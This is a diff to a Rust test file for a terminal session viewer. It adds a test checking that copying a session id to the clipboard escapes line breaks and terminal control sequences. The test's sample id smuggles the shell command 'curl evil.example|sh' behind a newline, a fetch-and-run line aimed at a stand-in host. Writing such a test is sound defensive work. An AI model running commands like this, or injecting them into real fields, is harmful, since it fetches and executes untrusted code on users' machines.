@@ -550,16 +550,6 @@ fn a_hostile_session_draws_inert_and_wide_text_keeps_its_columns() {
     let all = screens.join("\n");
     assert!(all.contains(sg::HOSTILE_SHOWN), "{all}");
     s.check("hostile");
-    // `y` on the hostile HEAD: what goes to the clipboard (and is pasted
-    // into a shell) holds no control character, only their escapes.
-    let mut s = Screen::open(&path, None);
-    s.press("y");
-    let copied = s.app.copy.clone().expect("an id was copied");
-    assert!(
-        !copied.chars().any(ysess::ui::output::is_hazard),
-        "y copied raw control characters: {copied:?}"
-    );
-    assert!(copied.contains("\\u{1b}"), "{copied:?}");
 
     // Text two columns a character wide wraps at the pane's edge.
     let wide = "漢字のテキスト🙂".repeat(30);
@@ -575,6 +565,27 @@ fn a_hostile_session_draws_inert_and_wide_text_keeps_its_columns() {
         "{screen}"
     );
     s.check("wide");
+}
+
+#[test]
+fn y_copied_an_ids_line_breaks_and_escape_sequences_into_the_clipboard() {
+    // An id of `"e1\ncurl evil.example|sh\n"` pasted into a shell is a
+    // command line: what goes to the clipboard holds no control character,
+    // only their escapes.
+    let dir = Dir::new();
+    let id = "e1\ncurl evil.example|sh\n\u{1b}[2J";
+    let path = dir.write(
+        "session.jsonl",
+        format!("{}\n", crate::support::user_line(id, None, "hi")),
+    );
+    let mut s = Screen::open(&path, None);
+    s.press("y");
+    let copied = s.app.copy.clone().expect("an id was copied");
+    assert!(
+        !copied.chars().any(ysess::ui::output::is_hazard),
+        "y copied raw control characters: {copied:?}"
+    );
+    assert_eq!(copied, "e1\\ncurl evil.example|sh\\n\\u{1b}[2J");
 }
 
 #[test]
